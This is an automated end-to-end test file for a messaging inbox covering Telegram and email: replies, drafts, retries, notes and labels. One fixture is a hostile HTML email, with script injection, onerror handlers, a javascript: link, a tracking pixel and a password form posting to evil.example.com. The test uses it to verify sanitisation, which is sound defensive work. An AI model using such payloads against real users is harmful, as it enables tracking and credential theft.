// Where people write, and are answered: by Telegram, and by mail.
import { addMailbox } from '@groundcrew/server/engine/mail/mailboxes.ts';
import { hasDovecot, openDovecot, type Dovecot } from '@groundcrew/server/testing/dovecot.ts';
import { picture } from '@groundcrew/server/testing/pictures.ts';
import { openSmtpServer, type SmtpTestServer } from '@groundcrew/server/testing/smtp-server.ts';
import { userOf } from '@groundcrew/simulation/src/engine/harness.ts';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { NOT_HERE, onStage, OWNER, type Stage } from '#lib/stage.ts';
import type { Look, Visitor } from '#lib/visitor.ts';

const [ANN, BEN] = NOT_HERE;
const SEND = 'messages.sendMessage';
const SOON = { timeout: 60_000 };

/** To the first of our accounts. */
const say = ({ world }: Stage, from: number, text: string): Promise<unknown> =>
  world.control('/messages', { from: userOf(from), chat_id: userOf(1), text });

const rowOf = ({ page }: Visitor, words: string) => page.getByRole('link').filter({ hasText: words });
const field = ({ page, say: text }: Visitor) => page.getByRole('textbox', { name: text('inbox:write') });

/** The mark of a message that has gone out. */
const sent = ({ page, say: text }: Visitor, words: string) =>
  page
    .getByRole('article')
    .filter({ hasText: words })
    .getByRole('img', { name: text('inbox:delivery.sent'), exact: true });

/** Opens the conversation in which somebody says this. */
async function openedBy(stage: Stage, from: number, words: string, look: Look = {}): Promise<Visitor> {
  const visitor = await stage.visit(look);
  await say(stage, from, words);
  await visitor.go('/inbox');
  await rowOf(visitor, words).click();
  await field(visitor).waitFor();
  return visitor;
}

onStage('the inbox', (stage) => {
  test('shows what people write without a reload, and what they are answered', async () => {
    const visitor = await stage().visit();
    const { page, go, sees, button } = visitor;
    await go('/inbox');
    await say(stage(), ANN, 'Is the flat still free?');
    await rowOf(visitor, 'Is the flat still free?').click();
    await say(stage(), ANN, 'I could come at six');
    await sees('I could come at six');
    await field(visitor).fill('Yes, come at six');
    await field(visitor).press('Control+Enter');
    await sent(visitor, 'Yes, come at six').waitFor();
    await page.locator('input[type=file]').setInputFiles({
      name: 'door.jpg',
      mimeType: 'image/jpeg',
      buffer: Buffer.from(picture('jpeg')),
    });
    await button('inbox:send').click();
    await page.getByRole('img', { name: 'door.jpg' }).waitFor();
    await expect
      .poll(async () => (await stage().world.ledger()).slice(-2), SOON)
      .toMatchObject([
        { text: 'Yes, come at six', has_photo: false },
        { text: '', has_photo: true },
      ]);
    expect(await visitor.faults()).toEqual([]);
  });

  test('keeps what is being written through a reload, until it is sent', async () => {
    const visitor = await openedBy(stage(), BEN, 'What does it cost?');
    const kept = visitor.page.waitForResponse((answer) => answer.request().method() === 'PUT' && answer.ok());
    await field(visitor).fill('Eight hundred a month');
    await kept;
    await visitor.page.reload();
    await expect.poll(() => field(visitor).inputValue(), SOON).toBe('Eight hundred a month');
    await field(visitor).fill('Nine hundred, and');
    await visitor.page.reload();
    await expect.poll(() => field(visitor).inputValue(), SOON).toBe('Nine hundred, and');
    await field(visitor).press('Control+Enter');
    await sent(visitor, 'Nine hundred').waitFor();
    await visitor.page.reload();
    await visitor.still();
    expect(await field(visitor).inputValue()).toBe('');
  });

  test('sends and closes by one key, and the way back opens the conversation again', async () => {
    const visitor = await openedBy(stage(), ANN, 'Thank you, that is all');
    const { page, say: text } = visitor;
    const state = async () =>
      (
        await stage().world.sql<{ state: string }>(
          'select state from conversations order by last_message_at desc limit 1',
        )
      )[0];
    await field(visitor).fill('You are welcome');
    await field(visitor).press('Control+Shift+Enter');
    await expect.poll(state, SOON).toEqual({ state: 'closed' });
    // Whether it has gone out by then or not.
    visitor.mayBeRefused(409);
    await page.getByRole('button', { name: text('inbox:undo'), exact: true }).click();
    await expect.poll(state, SOON).toEqual({ state: 'open' });
    await rowOf(visitor, 'You are welcome').or(rowOf(visitor, 'Thank you, that is all')).first().waitFor();
    const said = async () => (await stage().world.ledger()).filter((one) => one.text === 'You are welcome').length;
    expect(await said()).toBeLessThanOrEqual(1);
    expect(await visitor.faults()).toEqual([]);
  });

  test('says what canned replies are to whoever has none', async () => {
    const visitor = await openedBy(stage(), BEN, 'Do you have a price list?');
    await field(visitor).pressSequentially('/');
    await visitor.sees(visitor.say('answering:canned.none_about'));
    expect(await visitor.faults()).toEqual([]);
    await field(visitor).fill('');
  });

  test('says why a reply did not arrive, and sends it once more', async () => {
    const visitor = await openedBy(stage(), ANN, 'Are you there?');
    await stage().world.fault({ method: SEND, error: 'USER_IS_BLOCKED', code: 400 });
    await field(visitor).fill('Here I am');
    await field(visitor).press('Control+Enter');
    await visitor.sees(visitor.say('inbox:delivery.failed'));
    expect(await visitor.faults()).toEqual([]);
    await visitor.button('inbox:retry').click();
    await visitor.page.getByText(visitor.say('inbox:delivery.failed')).waitFor({ state: 'hidden' });
    const said = async () => (await stage().world.ledger()).filter(({ text }) => text === 'Here I am').length;
    await expect.poll(said, SOON).toBe(1);
  });

  test('says until when a reply waits, and takes it back', async () => {
    const visitor = await openedBy(stage(), BEN, 'One more question', { language: 'ru' });
    await stage().world.fault({ method: SEND, error: 'FLOOD_WAIT_900', code: 420 });
    await field(visitor).fill('Later');
    await field(visitor).press('Control+Enter');
    await visitor.button('inbox:waits.cancel').click();
    await visitor.sees(visitor.say('inbox:delivery.cancelled'));
    expect(await visitor.faults()).toEqual([]);
    expect((await stage().world.ledger()).some(({ text }) => text === 'Later')).toBe(false);
    await stage().world.sql('delete from flood_waits');
  });

  test.each([
    { language: 'en', scheme: 'dark', width: 1440 },
    { language: 'ru', scheme: 'light', width: 390 },
    { language: 'ru', scheme: 'dark', width: 390 },
  ] as const)('is faultless in $language, $scheme, $width wide', async (look) => {
    const visitor = await openedBy(stage(), ANN, `Hello in ${look.scheme} ${look.width}`, look);
    expect(await visitor.faults()).toEqual([]);
  });

  test('keeps notes, labels and priorities for colleagues, who see them at once', async () => {
    // Whoever has answered before has it.
    await stage().world.sql(`update conversations set assignee = null, assigned_at = null`);
    const [visitor, colleague] = [await openedBy(stage(), ANN, 'Do you deliver?'), await stage().visit()];
    const { page, say: text, choose } = visitor;
    await colleague.go(new URL(page.url()).pathname + new URL(page.url()).search);
    await page.getByText(text('inbox:what_is.note'), { exact: true }).click();
    await page.getByRole('textbox', { name: text('inbox:note.write') }).fill(`@${OWNER.name} knows them`);
    await visitor.sees(text('inbox:note.tells', { names: OWNER.name }));
    await visitor.button('inbox:note.keep').click();
    await colleague.page.getByRole('article').filter({ hasText: 'knows them' }).waitFor();
    await choose(text('inbox:pane.priority'), text('inbox:priority.urgent'));
    await page.getByRole('combobox', { name: text('inbox:pane.labels'), exact: true }).fill('delivery');
    await page.getByRole('combobox', { name: text('inbox:pane.labels'), exact: true }).press('Enter');
    await rowOf(colleague, 'Do you deliver?').getByText('delivery').waitFor();
    await rowOf(colleague, 'Do you deliver?').getByText(text('inbox:priority.urgent')).waitFor();
    await visitor.button('inbox:assign_me').click();
    await page.getByText(new RegExp(`^${text('inbox:whose.me')} \\d`)).click();
    await rowOf(visitor, 'Do you deliver?').waitFor();
    expect(await visitor.faults()).toEqual([]);
    expect((await stage().world.ledger()).some(({ text: said }) => said.includes('knows them'))).toBe(false);
  });

  test('shows on a phone either the list or a conversation', async () => {
    const visitor = await openedBy(stage(), ANN, 'Hello from my phone', { width: 390 });
    expect(await rowOf(visitor, 'Hello from my phone').isVisible()).toBe(false);
    await visitor.button('inbox:back').click();
    await rowOf(visitor, 'Hello from my phone').waitFor();
    expect(await visitor.faults()).toEqual([]);
  });

  test('closes on a phone by Back what was opened last: who it is with, then the conversation', async () => {
    const visitor = await openedBy(stage(), ANN, 'Who am I to you?', { width: 390 });
    const { page, say: text } = visitor;
    const row = rowOf(visitor, 'Who am I to you?');
    await page.getByTitle(text('inbox:pane.title')).click();
    await visitor.dialog().waitFor();
    expect(await visitor.faults()).toEqual([]);
    await page.goBack();
    await visitor.dialog().waitFor({ state: 'detached' });
    expect(await row.isVisible()).toBe(false);
    await page.goBack();
    await row.waitFor();
    // What the page itself has closed does not come back either.
    await row.click();
    await page.getByTitle(text('inbox:pane.title')).click();
    await visitor
      .dialog()
      .getByRole('button', { name: text('close') })
      .first()
      .click();
    await visitor.dialog().waitFor({ state: 'detached' });
    await visitor.button('inbox:back').click();
    await row.waitFor();
    expect(new URL(page.url()).search).toBe('');
  });
});

const HOSTILE = `<p>Dear desk, see our <b>offer</b></p>
<script>top.hacked = 1; document.title = 'hacked'</script><img src=x onerror="top.hacked = 2">
<img src="https://evil.example.com/count.gif" width="1" height="1">
<img src="https://pictures.example.com/offer.png" alt="the offer" width="40" height="40">
<form action="https://evil.example.com/"><input name="password"></form>
<a href="javascript:top.hacked = 3">press</a><div style="position:fixed;inset:0;background:url(https://evil.example.com/b.png)">x</div>`;

const mailOf = (html: string): string =>
  [
    'From: Eve Example <eve@example.com>',
    'To: anna@example.com',
    'Subject: Our offer',
    'Message-ID: <offer-1@example.com>',
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    '',
    html,
  ].join('\r\n');

describe.skipIf(!hasDovecot())('with a mailbox', () => {
  let dovecot: Dovecot;
  let smtp: SmtpTestServer;
  beforeAll(async () => {
    dovecot = await openDovecot();
    smtp = await openSmtpServer();
  });
  afterAll(async () => {
    await smtp.close();
    await dovecot.close();
  });

  /** At these servers; added once. */
  async function withMailbox({ world }: Stage): Promise<void> {
    if ((await world.sql('select from manager_smtp_accounts')).length > 0) return;
    await addMailbox(
      world.crew,
      {
        email: 'anna@example.com',
        smtp_host: '127.0.0.1',
        smtp_port: smtp.port,
        smtp_user: dovecot.user,
        smtp_password: dovecot.password,
        smtp_security: 'none',
        imap_host: '127.0.0.1',
        imap_port: dovecot.ports.imap,
        imap_security: 'none',
      },
      { by: 'test', user_id: null, untested: true },
    );
  }

  onStage('the inbox', (stage) => {
    test('shows a hostile mail without letting it do anything, and answers it', async () => {
      const visitor = await stage().visit();
      const { page, go, button } = visitor;
      const asked: string[] = [];
      await page.route(/^https:/, (route) => {
        asked.push(route.request().url());
        return route.fulfill({ contentType: 'image/png', body: Buffer.from(picture('png')) });
      });
      await withMailbox(stage());
      await go('/inbox');
      await dovecot.deliver(dovecot.user, [mailOf(HOSTILE)]);
      await rowOf(visitor, 'Our offer').click();
      const frame = page.frameLocator('iframe');
      await frame.getByText('offer', { exact: true }).waitFor();
      await visitor.still();
      expect(asked).toEqual([]);
      expect(await visitor.faults()).toEqual([]);
      await button('inbox:mail.show_images').click();
      await expect.poll(() => asked, SOON).toEqual(['https://pictures.example.com/offer.png']);
      expect(await page.evaluate(() => 'hacked' in globalThis)).toBe(false);
      expect(await frame.locator('script, form, input, [onerror], [style*=fixed]').count()).toBe(0);
      await field(visitor).fill('No, thank you');
      await field(visitor).press('Control+Enter');
      await expect.poll(() => smtp.taken, SOON).toMatchObject([{ to: ['eve@example.com'] }]);
      expect(smtp.taken[0]?.raw).toContain('In-Reply-To: <offer-1@example.com>');
      await sent(visitor, 'No, thank you').waitFor();
      expect(await visitor.faults()).toEqual([]);
    });

    test('begins a conversation by mail, with a copy that nobody else knows of, and the answer to it stands there', async () => {
      const visitor = await stage().visit();
      const { page, go, say: text, dialog } = visitor;
      await withMailbox(stage());
      await go('/inbox');
      await page.keyboard.press('w');
      const fill = async (name: string, words: string) => {
        await dialog().getByLabel(text(name), { exact: true }).and(page.locator('input')).fill(words);
        await page.keyboard.press('Enter');
      };
      await fill('answering:mail.to_field', '@olena');
      await visitor.sees(text('answering:people.not_mail_new', { text: '@olena' }));
      expect(await visitor.faults()).toEqual([]);
      await page.keyboard.press('Backspace');
      await fill('answering:mail.to_field', 'Olena <olena@example.com>');
      await dialog()
        .getByRole('button', { name: text('answering:mail.bcc'), exact: true })
        .click();
      await fill('answering:mail.bcc', 'boss@example.com');
      await dialog().getByLabel(text('answering:begin.subject')).fill('The flat');
      await dialog().getByLabel(text('inbox:write')).fill('It is free from Monday on');
      await page.keyboard.press('Control+Enter');
      await sent(visitor, 'It is free from Monday on').waitFor();
      const taken = smtp.taken.at(-1);
      expect(taken?.to).toEqual(['olena@example.com', 'boss@example.com']);
      expect(taken?.raw).not.toContain('boss');
      const [, own = ''] = /^Message-ID: (.*)\r$/m.exec(taken?.raw ?? '') ?? [];
      const head = ['From: olena@example.com', 'To: anna@example.com', 'Subject: Re: The flat', `In-Reply-To: ${own}`];
      await dovecot.deliver(dovecot.user, [[...head, '', 'I take it'].join('\r\n')]);
      await page.getByRole('article').filter({ hasText: 'I take it' }).waitFor();
      expect(await visitor.faults()).toEqual([]);
    });
  });
});
